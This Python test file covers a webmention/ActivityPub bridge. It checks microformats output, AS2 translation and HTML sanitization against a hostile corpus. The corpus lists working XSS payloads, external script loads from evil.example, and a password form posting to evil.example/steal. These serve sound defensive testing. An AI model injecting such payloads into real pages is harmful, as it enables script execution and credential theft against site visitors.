"""The interaction page (bridge/webmention/hentry.py) and the AS2 → Interaction translator
(bridge/as2/interaction.py): what a strict receiver's microformats parser reads from the page,
and a corpus of hostile HTML (script injection, event handlers, javascript:/data: URLs,
CSS tricks, frames, forms, malformed markup, microformats spoofing) of which nothing survives."""

from __future__ import annotations

from datetime import UTC, datetime

import mf2py
import pytest
from bs4 import BeautifulSoup

from bridge.as2.interaction import Attachment, Interaction, reaction_from_as2, reply_from_as2, visibility_of
from bridge.webmention.hentry import Author, render_gone, render_interaction, render_tombstone

TARGET = "https://blog.example/2026/11/a-post/"
PAGE = "https://bridge.example/interactions/7"
ENDPOINT = "https://bridge.example/webmention"
BOB = Author(url="https://social.example/@bob", name="Bob <Example>", photo="https://social.example/bob.png",
             handle="bob@social.example")
PUBLIC = "https://www.w3.org/ns/activitystreams#Public"


def reply(content: str, **extra: object) -> Interaction:
    values: dict[str, object] = {
        "kind": "reply", "object_id": "https://social.example/users/bob/statuses/1",
        "actor": "https://social.example/users/bob", "in_reply_to": TARGET,
        "url": "https://social.example/@bob/1", "content_html": content,
        "published": datetime(2026, 11, 24, 6, 0, tzinfo=UTC)}
    values.update(extra)
    return Interaction(**values)  # type: ignore[arg-type]


def render(interaction: Interaction, targets: tuple[str, ...] = (TARGET,)) -> str:
    return render_interaction(interaction, BOB, page_url=PAGE, targets=targets, endpoint=ENDPOINT, title="A post")


def test_reply_page_parses_as_the_receiver_needs() -> None:
    html = render(reply("<p>Nice <b>post</b></p>"))
    parsed = mf2py.parse(doc=html, url=PAGE)
    [entry] = parsed["items"]
    props = entry["properties"]
    assert entry["type"] == ["h-entry"]
    assert props["in-reply-to"] == [TARGET]
    [author] = props["author"]
    assert author["type"] == ["h-card"]
    assert author["properties"]["name"] == ["Bob <Example>"]
    assert author["properties"]["url"] == ["https://social.example/@bob"]
    assert author["properties"]["photo"][0] in ("https://social.example/bob.png",
                                                {"value": "https://social.example/bob.png", "alt": ""})
    assert props["content"][0]["html"] == "<p>Nice <b>post</b></p>"
    # u-url is the page itself (WordPress keeps it and answers it); the post is linked, not a property.
    assert props["url"] == [PAGE] and "uid" not in props
    original = [a for a in BeautifulSoup(html, "html.parser").find_all("a") if a.get_text() == "original"]
    assert [(a["href"], a.get("class")) for a in original] == [("https://social.example/@bob/1", None)]
    assert props["published"] == ["2026-11-24T06:00:00Z"] or props["published"][0].startswith("2026-11-24")
    assert parsed["rels"]["webmention"] == [ENDPOINT]
    # The first link on the page to the target is the in-reply-to link itself.
    first = next(a for a in BeautifulSoup(html, "html.parser").find_all("a") if a.get("href") == TARGET)
    assert first["class"] == ["u-in-reply-to"]


@pytest.mark.parametrize(("kind", "prop"), [("like", "like-of"), ("repost", "repost-of")])
def test_like_and_repost_pages(kind: str, prop: str) -> None:
    seen = Interaction(kind=kind, object_id="https://social.example/users/bob#likes/1",
                       actor="https://social.example/users/bob", in_reply_to=TARGET)
    [entry] = mf2py.parse(doc=render(seen), url=PAGE)["items"]
    assert entry["properties"][prop] == [TARGET]
    assert "content" not in entry["properties"] and "in-reply-to" not in entry["properties"]
    assert entry["properties"]["url"] == [PAGE]  # a like has no page of its own
    assert entry["properties"]["author"][0]["properties"]["url"] == ["https://social.example/@bob"]


def test_thread_reply_names_the_post_and_the_parent_page() -> None:
    parent = "https://bridge.example/interactions/6"
    [entry] = mf2py.parse(doc=render(reply("<p>yes</p>"), (TARGET, parent)))["items"]
    assert entry["properties"]["in-reply-to"] == [TARGET, parent]


def test_gone_page_has_no_entry() -> None:
    assert mf2py.parse(doc=render_gone(ENDPOINT))["items"] == []


@pytest.mark.parametrize(("kind", "emoji", "prop"), [("reply", None, "in-reply-to"), ("like", None, "like-of"),
                                                    ("repost", None, "repost-of"), ("like", "🔥", "in-reply-to")])
def test_a_tombstone_links_every_target_and_names_nobody(kind: str, emoji: str | None, prop: str) -> None:
    """What a receiver that ignores 410 (WordPress) takes as the comment's edit: linked as
    the page it replaces was (an emoji reaction as a reply, issue 20)."""
    thread = (TARGET, "https://bridge.example/interactions/6", f"{TARGET}?replytocom=12")
    grey = "https://bridge.example/avatars/withdrawn.svg"
    html = render_tombstone(kind, page_url=PAGE, targets=thread, endpoint=ENDPOINT, why="deleted", photo=grey,
                            emoji=emoji)
    [entry] = mf2py.parse(doc=html, url=PAGE)["items"]
    props = entry["properties"]
    assert props[prop] == list(thread) and props["url"] == [PAGE]
    [author] = props["author"]
    photo = author["properties"].pop("photo")
    assert author["properties"] == {"name": ["(withdrawn)"]}  # no profile link
    assert photo in ([grey], [{"value": grey, "alt": ""}])
    assert props["content"][0]["value"] == "This comment was deleted by its author."
    assert "Bob" not in html and "social.example" not in html


def test_attachments_and_content_warning() -> None:
    seen = reply("<p>look</p>", summary="spoilers <b>",
                 attachments=(Attachment("https://social.example/a.png", "image/png", "a cat"),
                              Attachment("javascript:alert(1)", "image/png", "x")))
    html = render(seen)
    props = mf2py.parse(doc=html)["items"][0]["properties"]
    assert props["summary"] == ["spoilers <b>"]
    assert "javascript:" not in html and "https://social.example/a.png" in html


# -- the AS2 side ---------------------------------------------------------------------------

def test_visibility_follows_mastodon_addressing() -> None:
    actor = "https://social.example/users/bob"
    assert visibility_of({"to": [PUBLIC]}, actor) == "public"
    assert visibility_of({"to": [f"{actor}/followers"], "cc": ["as:Public"]}, actor) == "unlisted"
    assert visibility_of({"to": [f"{actor}/followers"]}, actor) == "followers"
    assert visibility_of({"to": ["https://bridge.example/users/blog"]}, actor) == "direct"


def test_reply_and_reactions_from_as2() -> None:
    actor = "https://social.example/users/bob"
    note = {"id": f"{actor}/statuses/1", "type": "Note", "attributedTo": actor, "inReplyTo": {"id": TARGET},
            "contentMap": {"de": "<p>Hallo</p>"}, "to": [PUBLIC], "summary": "cw",
            "published": "2026-11-24T06:00:00Z", "url": {"type": "Link", "href": "https://social.example/@bob/1"},
            "tag": [{"type": "Mention", "href": "https://bridge.example/users/blog"}, {"type": "Hashtag", "name": "#x"}],
            "attachment": [{"type": "Document", "mediaType": "image/png", "url": "https://social.example/a.png",
                            "name": "alt"}]}
    seen = reply_from_as2(note, actor)
    assert (seen.kind, seen.in_reply_to, seen.content_html, seen.language) == ("reply", TARGET, "<p>Hallo</p>", "de")
    assert seen.url == "https://social.example/@bob/1" and seen.summary == "cw" and seen.hashtags == ("x",)
    assert seen.mentions == ("https://bridge.example/users/blog",)
    assert seen.attachments == (Attachment("https://social.example/a.png", "image/png", "alt"),)
    with pytest.raises(ValueError):
        reply_from_as2({**note, "type": "Person"}, actor)
    like = reaction_from_as2({"id": f"{actor}#likes/1", "type": "Like", "object": TARGET}, actor)
    assert (like.kind, like.in_reply_to, like.visibility) == ("like", TARGET, "public")
    react = reaction_from_as2({"id": f"{actor}/r/1", "type": "EmojiReact", "object": TARGET, "content": "🔥"}, actor)
    assert (react.kind, react.emoji) == ("like", "🔥")
    boost = reaction_from_as2({"id": f"{actor}/statuses/2/activity", "type": "Announce", "object": {"id": TARGET},
                               "to": [PUBLIC]}, actor)
    assert (boost.kind, boost.in_reply_to) == ("repost", TARGET)
    with pytest.raises(ValueError):
        reaction_from_as2({"id": f"{actor}/x", "type": "Follow", "object": TARGET}, actor)


# -- hostile HTML --------------------------------------------------------------------------

HOSTILE = [
    # script injection
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script/src=https://evil.example/x.js>",
    "<<script>alert(1);//<</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<p onclick=\"alert(1)\">click</p>",
    "<a href=\"https://ok.example/\" onmouseover=\"alert(1)\">hover</a>",
    "<body onload=alert(1)>",
    "<div onfocus=alert(1) autofocus tabindex=1>x</div>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p/onclick=alert(1)>x</p>",
    "<b ONCLICK=alert(1)>x</b>",
    # javascript:, data:, vbscript: URLs
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    # CSS tricks
    "<style>body{display:none}</style>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</p>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"behavior:url(x.htc)\">x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<span style=\"font-size:999px\">huge</span>",
    "<style>@import 'https://evil.example/x.css';</style>",
    # frames, objects, forms, meta
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<frameset><frame src=\"https://evil.example/\"></frameset>",
    "<form action=\"https://evil.example/steal\"><input name=password type=password></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<base href=\"https://evil.example/\">",
    "<textarea>x</textarea><select><option>y</option></select>",
    # malformed markup
    "<p>unclosed <b>bold <i>italic",
    "</p></div></article><script>alert(1)</script>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<a href=\"https://ok.example/\"\"onclick=alert(1)>x</a>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p <script>alert(1)</script>>x</p>",
    "<div><p>nested<div>wrong</p></div>",
    # our page's structure and microformats: none may be spoofed from inside e-content
    "</div></article><article class=\"h-entry\"><a class=\"u-like-of\" href=\"https://blog.example/x\">x</a>",
    "<a class=\"u-in-reply-to\" href=\"https://spam.example/\">spam</a>",
    "<span class=\"p-author h-card\"><span class=\"p-name\">Admin</span></span>",
    "<a rel=\"webmention\" href=\"https://evil.example/wm\">x</a>",
    "<a href=\"https://ok.example/\" rel=\"me noopener\" target=\"_blank\">x</a>",
    "<img src=\"https://tracker.example/pixel.gif\" width=1 height=1>",
]
BANNED_TAGS = ("script", "style", "iframe", "object", "embed", "frame", "frameset", "form", "input", "button",
               "textarea", "select", "meta", "base", "svg", "math", "template", "noscript", "video", "audio",
               "source", "marquee", "details", "img", "link", "title", "head", "html", "body")


def test_the_hostile_corpus_is_large_enough() -> None:
    assert len(HOSTILE) >= 50


@pytest.mark.parametrize("snippet", HOSTILE)
def test_nothing_hostile_survives_the_reply_page(snippet: str) -> None:
    html = render(reply(f"<p>before</p>{snippet}<p>after</p>"))
    soup = BeautifulSoup(html, "html.parser")
    content = soup.select_one(".e-content")
    assert content is not None
    # Parsed back, the page holds no active content at all: the head is ours alone, the
    # body has no banned element but the author's photo.
    assert soup.head is not None and soup.body is not None
    assert [t.name for t in soup.head.find_all(True)] == ["meta", "meta", "title", "link", "meta"], snippet
    for tag in BANNED_TAGS:
        if tag == "img":
            assert [i["src"] for i in soup.body.find_all("img")] == [BOB.photo], snippet
            continue
        assert soup.body.find(tag) is None, (tag, snippet)
    for element in soup.find_all(True):
        for name, value in element.attrs.items():
            assert not name.lower().startswith("on"), (element, snippet)
            assert name.lower() not in ("style", "srcdoc", "formaction", "action"), (element, snippet)
            text = " ".join(value) if isinstance(value, list) else str(value)
            squeezed = "".join(text.split()).lower()
            assert not squeezed.startswith(("javascript:", "data:", "vbscript:")), (element, snippet)
    # Inside e-content: no class (no microformats spoofing), every link nofollow ugc.
    for element in content.find_all(True):
        assert "class" not in element.attrs, (element, snippet)
    for link in content.find_all("a"):
        assert set(link.get("rel", [])) == {"nofollow", "ugc", "noopener"}, (link, snippet)
        assert "target" not in link.attrs
    # What a receiver parses is unchanged: one h-entry, in reply to the target only, one author.
    [entry] = mf2py.parse(doc=html, url=PAGE)["items"]
    props = entry["properties"]
    assert props["in-reply-to"] == [TARGET], snippet
    assert "like-of" not in props and "repost-of" not in props
    assert [a["properties"]["name"] for a in props["author"]] == [["Bob <Example>"]]
    assert mf2py.parse(doc=html)["rels"]["webmention"] == [ENDPOINT]
